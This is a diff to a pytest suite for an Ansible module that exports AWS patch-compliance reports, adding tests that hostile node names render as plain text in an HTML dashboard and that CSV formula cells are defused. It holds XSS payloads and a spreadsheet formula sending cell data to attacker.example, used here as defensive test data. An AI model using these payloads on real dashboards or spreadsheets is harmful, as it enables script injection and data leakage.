@@ -10,11 +10,16 @@ import json
 import math
 import re
 import shutil
+import stat
 import subprocess
 import time
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+
+from ansible_collections.cloudpatch.ssm.plugins.module_utils.compliance import DashboardCounts
+from ansible_collections.cloudpatch.ssm.plugins.module_utils.compliance_report import report_writer
 
 WORKSHOP_NODES = ("App1", "App2", "Web1", "Web2")
 BUCKET = "ssm-command-logs-us-east-1-123456789012"
@@ -336,15 +341,6 @@ def test_converges_with_30_percent_throttling(run_target, agent, tmp_path):
     assert stormy["nodes"] == calm["nodes"] and len(calm["nodes"]) == 120
 
 
-def test_bad_input_fails_before_any_call(run_target, agent, tmp_path):
-    reports = tmp_path / "reports"
-    reports.mkdir()
-    agent.clear_calls()
-    run_target("ssm_compliance_bad_input", {"report_dir": str(reports)})
-    assert agent.calls() == []
-    assert list(reports.iterdir()) == []
-
-
 CHROMIUM = Path("/usr/bin/chromium")
 CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                   "--disable-background-networking", "--disable-component-update", "--disable-sync"]
@@ -376,3 +372,176 @@ def test_html_dashboard_in_headless_chromium(run_target, agent, tmp_path):
     keep = Path(__file__).resolve().parents[2] / ".build" / "screenshots"
     keep.mkdir(parents=True, exist_ok=True)
     shutil.copy(screenshot, keep / "compliance-dashboard.png")
+
+
+# Hostile data: what a node's Name tag, a platform string or a patch title could carry.
+HOSTILE = (
+    "<img src=x onerror=alert(1)>",
+    "</script><script>alert(2)</script>",
+    '" onmouseover="alert(3)',
+    "'><svg onload=alert(4)>",
+    "</td></tr></table><iframe src=javascript:alert(5)></iframe>",
+)
+
+
+class DomShape(HTMLParser):
+    """The elements, attributes and text of a page as Chromium serialized its DOM."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.attributes, self.text = [], [], []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes.extend(name for name, _value in attrs)
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def chromium_dom(page, profile):
+    try:
+        return subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "--dump-dom", page.as_uri()],
+                              capture_output=True, text=True, timeout=120, check=True).stdout
+    except subprocess.TimeoutExpired:
+        # An injected handler that ran alert() leaves headless Chromium waiting on the dialog.
+        pytest.fail(f"{page.name}: Chromium never finished loading the page: a script from the data ran (an alert dialog waits)")
+
+
+def dom_shape(dom):
+    shape = DomShape()
+    shape.feed(dom)
+    shape.close()
+    return shape
+
+
+def hostile_page(value):
+    """A single-node page whose every value from AWS (node, patches, operations, tasks, scope) is `value`."""
+    node = {
+        "instance_id": value, "name": value, "ip_address": value, "computer_name": value, "resource_type": "EC2Instance",
+        "ping_status": "Online", "platform_type": "Linux", "platform_name": value, "platform_version": value, "agent_version": value,
+        "patch_group": value, "baseline_id": value, "status": value, "severity": value,
+        "non_compliant_counts": {"critical": 1, "high": 0, "medium": 0, "low": 0, "informational": 0, "unspecified": 0},
+        "patch_counts": {"installed": 1, "installed_other": 0, "installed_pending_reboot": 0, "installed_rejected": 0, "missing": 1,
+                         "failed": 0, "not_applicable": 0},
+        "last_operation": "Scan", "last_report_time": value, "reporting_age": "within",
+    }
+    detail = {key: value for key in ("instance_id", "name", "title", "patch_id", "state", "last_report_time", "compliance_level",
+                                     "severity", "classification", "cve_ids", "baseline_id", "logs_url")}
+    counts = DashboardCounts()
+    counts.add(dict(node, status="NON_COMPLIANT", severity="CRITICAL"))
+    operation = {"operation": value, "mechanism": value, "document": value, "id": value, "start_time": value, "end_time": value,
+                 "status": value, "targets": value}
+    task = {"name": value, "type": value, "id": value, "document": value, "schedule": value, "targets": value}
+    stream = io.StringIO()
+    writer = report_writer("html", stream, {"report_name": "hostile", "generated_at": value, "scope": value, "region": value})
+    writer.node(node)
+    writer.details(node, [detail])
+    writer.close(counts.as_dict([operation], [task]))
+    return stream.getvalue()
+
+
+@pytest.mark.skipif(not CHROMIUM.exists(), reason="headless browser test needs Debian's chromium: apt-get install -y chromium")
+def test_hostile_values_stay_text_in_headless_chromium(tmp_path):
+    """Every value from AWS, hostile, lands in the DOM as text: the page has the elements of a page
+    of harmless values and not one more, no event handler attribute, and each hostile string is there."""
+    profile = tmp_path / "profile"
+    plain = tmp_path / "plain.html"
+    plain.write_text(hostile_page("plain value"), encoding="utf-8")
+    expected = dom_shape(chromium_dom(plain, profile))
+    assert "svg" in expected.tags and "table" in expected.tags  # the real page's own elements
+    for number, value in enumerate(HOSTILE):
+        page = tmp_path / f"hostile-{number}.html"
+        page.write_text(hostile_page(value), encoding="utf-8")
+        shape = dom_shape(chromium_dom(page, profile))
+        assert sorted(shape.tags) == sorted(expected.tags), value
+        assert not {"img", "script", "iframe"} & set(shape.tags)
+        assert sorted(shape.attributes) == sorted(expected.attributes), value
+        assert not [name for name in shape.attributes if name.startswith("on")]
+        text = "".join(shape.text)
+        # node table, details, operations, tasks, title, scope: the value is shown as it is, many times over
+        assert text.count(value) >= 20, (value, text.count(value))
+
+
+@pytest.mark.skipif(not CHROMIUM.exists(), reason="headless browser test needs Debian's chromium: apt-get install -y chromium")
+def test_an_exported_page_of_hostile_node_names_opens_as_text(run_target, tmp_path):
+    """The module's own page, from the sandbox: nodes whose Name tags are hostile."""
+    sandbox = run_target.sandbox
+    for value in HOSTILE:
+        sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": value})
+    export(run_target, tmp_path, {"report_name": "hostile-names", "format": "html", "dest": str(tmp_path)})
+    shape = dom_shape(chromium_dom(tmp_path / "hostile-names.html", tmp_path / "profile"))
+    assert not {"img", "script", "iframe"} & set(shape.tags)
+    assert not [name for name in shape.attributes if name.startswith("on")]
+    assert shape.tags.count("tr") == 1 + len(HOSTILE) + 1 + 1 + 1 + 1  # node table head + rows, two empty tables with head and row
+    text = "".join(shape.text)
+    assert all(value in text for value in HOSTILE)
+
+
+def test_a_failed_notification_after_the_write_fails_with_changed_and_says_where(run_target, tmp_path):
+    workshop(run_target.sandbox)
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    missing_topic = "arn:aws:sns:us-east-1:123456789012:nobody-listens"
+    result = export(run_target, tmp_path, {"report_name": "report2026", "s3_bucket": BUCKET, "dest": f"{reports}/",
+                                           "sns_topic_arn": missing_topic}, expect_failure=True)
+    assert result["changed"] is True
+    assert result["msg"].startswith(f"the report is in place (s3://{BUCKET}/report2026.csv and {reports / 'report2026.csv'}), "
+                                    "but the notification failed")
+    assert f"sns_topic_arn {missing_topic} was not found from us-east-1" in result["msg"]
+    assert result["report"]["nodes"] == 4 and result["report"]["dest"] == str(reports / "report2026.csv")
+    body = run_target.sandbox.client("s3").get_object(Bucket=BUCKET, Key="report2026.csv")["Body"].read()
+    assert hashlib.sha256(body).hexdigest() == result["report"]["sha256"] == hashlib.sha256((reports / "report2026.csv").read_bytes()).hexdigest()
+    assert sorted(path.name for path in reports.iterdir()) == ["report2026.csv"]
+
+
+def test_file_options_and_directory_dest_through_ansible(run_target, tmp_path):
+    """A dest ending in / is created for the report; new files 0600, an existing one keeps its mode, mode is honoured."""
+    run_target.sandbox.seed_nodes(2, "AMAZON_LINUX_2")
+    reports = tmp_path / "new" / "reports"
+    first = export(run_target, tmp_path, {"report_name": "fleet-2026-11-30", "dest": f"{reports}/"}, name="first")
+    assert first["report"]["dest"] == str(reports / "fleet-2026-11-30.csv")
+    assert stat.S_IMODE(reports.stat().st_mode) == 0o700
+    assert stat.S_IMODE((reports / "fleet-2026-11-30.csv").stat().st_mode) == 0o600
+    (reports / "fleet-2026-11-30.csv").chmod(0o640)
+    export(run_target, tmp_path, {"report_name": "fleet-2026-11-30", "dest": str(reports)}, name="again")
+    assert stat.S_IMODE((reports / "fleet-2026-11-30.csv").stat().st_mode) == 0o640
+    export(run_target, tmp_path, {"report_name": "fleet-2026-11-30", "dest": str(reports), "mode": "0644"}, name="shared")
+    assert stat.S_IMODE((reports / "fleet-2026-11-30.csv").stat().st_mode) == 0o644
+    assert sorted(path.name for path in reports.iterdir()) == ["fleet-2026-11-30.csv"]
+
+
+def test_a_selection_matching_no_node_fails_with_the_region_and_writes_nothing(run_target, tmp_path):
+    workshop(run_target.sandbox)
+    reports = tmp_path / "reports"
+    result = export(run_target, tmp_path, {"report_name": "nobody", "dest": f"{reports}/", "s3_bucket": BUCKET,
+                                           "patch_groups": ["Nobody"]}, expect_failure=True)
+    assert result["msg"] == "0 nodes in us-east-1 matched patch groups Nobody: nothing to report"
+    assert not reports.exists()
+    assert run_target.sandbox.client("s3").list_objects_v2(Bucket=BUCKET).get("KeyCount", 0) == 0
+
+
+def test_a_bucket_that_does_not_exist_is_named_with_the_region(run_target, tmp_path):
+    run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2")
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    result = export(run_target, tmp_path, {"report_name": "fleet", "s3_bucket": "no-such-reports-bucket", "dest": str(reports)},
+                    expect_failure=True)
+    assert result["msg"].startswith("s3_bucket no-such-reports-bucket does not exist (asked from us-east-1)")
+    assert result.get("changed") is not True and list(reports.iterdir()) == []
+
+
+def test_formula_cells_from_node_data_are_defused_in_the_csv(run_target, tmp_path):
+    """A Name tag a spreadsheet would run: quoted in the CSV by default, raw with csv_escape_formulas=false and in JSON."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    [node] = run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": formula})
+    export(run_target, tmp_path, {"report_name": "escaped", "dest": str(tmp_path)}, name="escaped")
+    export(run_target, tmp_path, {"report_name": "raw", "dest": str(tmp_path), "csv_escape_formulas": False}, name="raw")
+    export(run_target, tmp_path, {"report_name": "raw", "format": "json", "dest": str(tmp_path)}, name="json")
+    escaped = read_csv((tmp_path / "escaped.csv").read_text())[1]
+    assert escaped[1] == node and escaped[2] == "'" + formula and escaped[0] == "1"
+    assert read_csv((tmp_path / "raw.csv").read_text())[1][2] == formula
+    assert json.loads((tmp_path / "raw.json").read_text())["nodes"][0]["name"] == formula
